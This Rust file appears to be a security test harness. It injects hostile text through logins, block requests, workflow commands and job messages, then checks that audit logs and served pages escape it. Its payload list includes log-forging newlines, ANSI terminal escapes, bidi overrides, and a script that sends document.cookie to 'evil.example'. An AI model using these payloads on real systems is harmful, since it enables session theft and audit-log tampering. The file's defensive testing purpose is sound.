//! S13 — as an attacker I want to store something that will be executed, when admins log in,
//! with admin privileges.
//!
//! What an admin looks at is the audit logs (in a terminal or a log viewer) and the state the
//! UI servers serve. [`STORED_PAYLOAD`] sends text built to do harm there — a newline followed
//! by a forged record, a carriage return that overwrites a line on a terminal, ANSI escapes
//! that clear the screen and set the terminal's title, a `<script>`, a Unicode line separator,
//! a bidi override, a fake `[#N MAC]` trailer — through every field that reaches a log or a
//! view: user names at login, a non-operator's block target, command targets, workflow names
//! and operation names. Then it reads the logs as an admin would and verifies them.

use protocol::Defence;
use protocol_core::wire::{JobBody, Severity};
use protocol_gateway::http::client::HttpResponse;
use protocol_people::PeopleCheck;
use protocol_people::audit::escape;
use serde_json::json;

use super::{file_text, missing_headers, options, percent_encode, shown};
use crate::harness::{Control, Fired, Harness, HarnessError, HarnessInfo, Outcome, Weakening};
use crate::live::gateway::{GatewayOptions, GatewayWorld};
use crate::live::peer::{Heard, Session, Talker};

/// Hostile text stored where admins look.
pub const STORED_PAYLOAD: Harness = Harness {
    info: HarnessInfo {
        id: "s13-stored-payload",
        story: "S13",
        target: "hub, UI server",
        title: "newlines with forged records, carriage returns, ANSI escapes, <script>, U+2028, bidi overrides and fake trailers sent as user names, block targets, command targets, workflow and operation names, then read back from the audit logs and the served state",
        defences: &[Defence::People(PeopleCheck::AuditEscaping)],
        control: Control::WithoutEach,
        note: "the hub's and UI servers' audit writers render fields unescaped",
    },
    run: |w| Box::pin(stored_payload(w)),
};

/// Text built to do harm in a log viewer, a terminal or a browser.
const PAYLOADS: [&str; 7] = [
    "mallory\n2026-11-22T10:00:00Z User jacintar raised privileges to write\n",
    "mallory\r2026-11-22T10:00:00Z User root logged out of session 1",
    "\u{1b}[2J\u{1b}[31mALERT\u{1b}]0;pwned\u{7}",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "mallory\u{2028}2026-11-22T10:00:00Z User root stopped everything",
    "admin\u{202e}nimda",
    "x [#1 0000000000000000000000000000000000000000000000000000000000000000]",
];

/// What must never be seen raw in a response body.
const RAW_MARKERS: [&str; 5] = ["<script", "\u{1b}", "\r", "\u{2028}", "\u{202e}"];

fn plural(n: u64, what: &str) -> String {
    if n == 1 {
        format!("1 {what}")
    } else {
        format!("{n} {what}s")
    }
}

/// Whether `line` ends in a `[#seq HEX]` trailer with exactly that sequence number.
fn is_record(line: &str, seq: usize) -> bool {
    line.rsplit_once(" [#").is_some_and(|(_, trailer)| {
        trailer.strip_suffix(']').is_some_and(|t| {
            t.split_once(' ').is_some_and(|(n, mac)| {
                n == seq.to_string() && mac.len() == 64 && mac.bytes().all(|b| b.is_ascii_hexdigit())
            })
        })
    })
}

/// What an admin's viewer makes of a log: the pieces between the line breaks it honours.
fn viewed_lines(text: &str) -> Vec<&str> {
    let mut lines: Vec<&str> = text.split(['\n', '\r', '\u{2028}', '\u{2029}', '\u{85}']).collect();
    if lines.last() == Some(&"") {
        lines.pop();
    }
    lines
}

/// Everything wrong with one audit log as an admin reads it.
fn judge_log(w: &GatewayWorld, name: &str, path: &std::path::Path, breaches: &mut Vec<String>) -> u64 {
    let text = file_text(path);
    let head = protocol_people::audit::default_head_path(path);
    let records = match w.verify(path, &head) {
        Ok(report) => report.records,
        Err(e) => {
            breaches.push(format!("the {name} audit log no longer verifies ({e})"));
            0
        }
    };
    let forged: Vec<&str> = viewed_lines(&text)
        .into_iter()
        .enumerate()
        .filter(|(i, l)| !is_record(l, i + 1))
        .map(|(_, l)| l)
        .collect();
    let telling = forged
        .iter()
        .find(|l| l.starts_with("2026-") && (l.contains("User jacintar raised") || l.contains("User root")))
        .or_else(|| forged.first());
    if let Some(first) = telling {
        breaches.push(format!(
            "the {name} audit log shows {} lines that are no record, e.g. {:?}",
            forged.len(),
            shown(first)
        ));
    }
    let controls: Vec<String> = text
        .chars()
        .filter(|c| {
            (c.is_control() && *c != '\n')
                || ('\u{202a}'..='\u{202e}').contains(c)
                || ('\u{2066}'..='\u{2069}').contains(c)
        })
        .map(|c| format!("U+{:04X}", u32::from(c)))
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .collect();
    if !controls.is_empty() {
        breaches.push(format!(
            "the {name} audit log holds raw control characters an admin's terminal obeys ({})",
            controls.join(", ")
        ));
    }
    if text.contains("<script") {
        breaches.push(format!("the {name} audit log holds a raw <script> element"));
    }
    records
}

fn judge_response(what: &str, r: &HttpResponse, breaches: &mut Vec<String>) {
    let body = r.text();
    for marker in RAW_MARKERS {
        if body.contains(marker) {
            breaches.push(format!(
                "{what} reflected {:?} raw (status {})",
                shown(marker),
                r.status
            ));
        }
    }
    let missing = missing_headers(r);
    if !missing.is_empty() {
        breaches.push(format!("{what} answered without {}", missing.join(", ")));
    }
}

/// Sends every payload as a task message of clouds' job (whose key the attacker holds),
/// reconnecting after a refusal closes the connection; gives (stored, refused) counts.
async fn job_messages(w: &GatewayWorld) -> Result<(usize, usize), HarnessError> {
    let clouds = w.workflow("clouds")?;
    let contact = clouds
        .run
        .read_contact()
        .map_err(HarnessError::setup)?
        .ok_or_else(|| HarnessError::setup("clouds has no contact"))?;
    let open = || Session::open(contact.address, &contact.scheduler_key, &clouds.id, &clouds.job_key);
    let session = open()
        .await
        .map_err(|e| HarnessError::setup(format!("the job could not connect: {e}")))?;
    let mut talker = Talker::new(session, clouds.job.clone());
    if talker.say(JobBody::Started).await != Heard::Ack {
        return Err(HarnessError::setup("the job's started was refused"));
    }
    let (mut stored, mut refused) = (0, 0);
    for p in PAYLOADS
        .iter()
        .chain(&["climb\n{\"Accepted\":{\"job\":\"~atmosphere_stage/clouds//1234/climb/01\"}}"])
    {
        let text = (*p).to_owned();
        match talker
            .say(JobBody::Message {
                severity: Severity::Critical,
                text,
            })
            .await
        {
            Heard::Ack => stored += 1,
            _ => {
                refused += 1;
                talker.session = open()
                    .await
                    .map_err(|e| HarnessError::setup(format!("the job could not reconnect: {e}")))?;
            }
        }
    }
    Ok((stored, refused))
}

async fn stored_payload(weakening: Weakening) -> Result<Outcome, HarnessError> {
    let audit = weakening.people();
    let mut w = GatewayWorld::start(GatewayOptions {
        audit_defences: audit,
        ..options()
    })
    .await?;
    let http = |e: protocol_gateway::http::client::HttpError| HarnessError::setup(format!("no answer: {e}"));
    let mut breaches = Vec::new();
    let mut refused_at_ui = std::collections::BTreeMap::<u16, usize>::new();
    // User names at login: each failed attempt is recorded with the name as typed.
    for p in PAYLOADS {
        let r = w.client().login(p, "not-the-password").await.map_err(http)?;
        if r.status != 401 {
            breaches.push(format!("a login as {:?} answered {}", shown(p), r.status));
        }
        judge_response("a hostile login", &r, &mut breaches);
    }
    // A non-operator's block targets: each refused attempt is recorded with its target.
    let mut mallory = w.login("mallory").await?;
    for p in PAYLOADS {
        let r = mallory
            .post("/operator/block", &json!({ "source": p }))
            .await
            .map_err(http)?;
        judge_response("a non-operator's block", &r, &mut breaches);
    }
    // Targets, workflow names and operation names at a UI server, through the hub.
    let mut jacintar = w.elevated("jacintar", "execute").await?;
    for p in PAYLOADS {
        let attempts = [
            jacintar
                .post(
                    "/o/atmosphere_stage/workflows/clouds",
                    &json!({ "op": "hold", "target": p }),
                )
                .await,
            jacintar
                .post(
                    "/o/atmosphere_stage/workflows/clouds",
                    &json!({ "op": p, "target": "1234/climb" }),
                )
                .await,
            jacintar
                .get(&format!("/o/atmosphere_stage/workflows/{}", percent_encode(p)))
                .await,
        ];
        for r in attempts {
            let r = r.map_err(http)?;
            if r.status == 200 {
                breaches.push(format!("the UI server accepted {:?}", shown(p)));
            }
            *refused_at_ui.entry(r.status).or_default() += 1;
            judge_response("the UI server", &r, &mut breaches);
        }
    }
    // What an admin then views: a workflow's state and the operator status.
    let state = jacintar
        .get("/o/atmosphere_stage/workflows/clouds")
        .await
        .map_err(http)?;
    if state.status != 200 {
        return Err(HarnessError::setup(format!(
            "the state of clouds answered {}",
            state.status
        )));
    }
    judge_response("the served state", &state, &mut breaches);
    // A compromised job of clouds writes the payloads as task messages: the scheduler's event
    // log is the admin's other view.
    let (stored, cut) = job_messages(&w).await?;
    let clouds = w.workflow("clouds")?;
    let events_text = file_text(&clouds.run.event_log());
    match clouds.events().await {
        Ok(events) if events.len() == events_text.lines().count() => {}
        Ok(_) => breaches.push("the scheduler's event log holds a line that is no event".to_owned()),
        Err(e) => breaches.push(format!(
            "the scheduler's event log holds a forged or mangled line ({e})"
        )),
    }
    if events_text.chars().any(|c| c.is_control() && c != '\n') {
        breaches.push("the scheduler's event log holds raw control characters".to_owned());
    }
    let mut admin = w.elevated("oceans_stage", "execute").await?;
    let status = admin.get("/operator/status").await.map_err(http)?;
    judge_response("the operator status", &status, &mut breaches);
    w.stop_in_place().await;
    let hub_records = judge_log(&w, "hub's", &w.audit_path("hub"), &mut breaches);
    let ui_records = judge_log(
        &w,
        "atmosphere_stage UI server's",
        &w.audit_path("atmosphere_stage"),
        &mut breaches,
    );
    let hub_text = w.audit_text("hub");
    let recorded_logins = hub_text.matches("failed to log in").count();
    // The hostile fields found escaped in the audit logs: audit-escaping's work.
    let ui_text = w.audit_text("atmosphere_stage");
    let escaped_fields = PAYLOADS
        .iter()
        .map(|p| escape(p))
        .filter(|e| matches!(e, std::borrow::Cow::Owned(_)))
        .map(|e| hub_text.matches(&*e).count() + ui_text.matches(&*e).count())
        .sum::<usize>() as u64;
    if breaches.is_empty() && recorded_logins < PAYLOADS.len() {
        breaches.push(format!(
            "only {recorded_logins} of {} hostile logins are in the hub's audit log",
            PAYLOADS.len()
        ));
    }
    let refusals: Vec<String> = refused_at_ui.iter().map(|(s, n)| format!("{n}× {s}")).collect();
    Ok(Outcome::judge(
        breaches,
        &Fired::count(PeopleCheck::AuditEscaping, escaped_fields),
        format!(
            "audit-escaping: {n} hostile user names (failed logins) and {n} hostile block targets (a non-operator's \
             attempts) reached the hub's audit log and were stored escaped (newline as \\n, ESC as \\x1b, `<` as \\x3c, \
             U+2028 as \\u{{2028}}, spaces as \\x20 so no fake trailer); the hub's log verifies ({}) \
             with no forged line, control character, bidi control or HTML in it; {} hostile targets, operation names and \
             workflow names were refused before the UI server acted ({}), and its log verifies ({}); \
             a compromised job's {} payloads as task messages: {cut} with control characters refused by the scheduler, \
             {stored} stored JSON-escaped, one event per line (no forged event, no raw control character); every answer, the served state and the operator status are JSON with nosniff and default-src 'none' and \
             reflect none of it",
            plural(hub_records, "record"),
            3 * PAYLOADS.len(),
            refusals.join(", "),
            plural(ui_records, "record"),
            PAYLOADS.len() + 1,
            n = PAYLOADS.len(),
        ),
    ))
}
